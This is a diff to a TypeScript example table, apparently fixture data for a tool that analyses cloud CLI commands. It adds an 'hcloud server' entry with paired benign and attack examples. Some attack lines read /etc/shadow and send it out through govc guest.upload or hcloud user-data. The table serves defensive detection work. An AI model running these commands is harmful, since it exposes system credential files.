@@ -100,6 +100,10 @@ export const cloudProviders: ExampleTable = {
     use: 'govc guest.upload -vm web notes.txt /tmp/notes.txt → read notes.txt; send /tmp/notes.txt',
     attack: 'govc guest.upload -vm web /etc/shadow /tmp/s → read /etc/shadow; send /tmp/s',
   },
+  'hcloud server': {
+    use: 'hcloud server --name web list → nothing',
+    attack: 'hcloud server --user-data-from-file /etc/shadow create → read /etc/shadow',
+  },
   'hcloud server create': {
     use: 'hcloud server create --name web --image debian-12 --user-data-from-file=init.yaml → read init.yaml',
     attack:
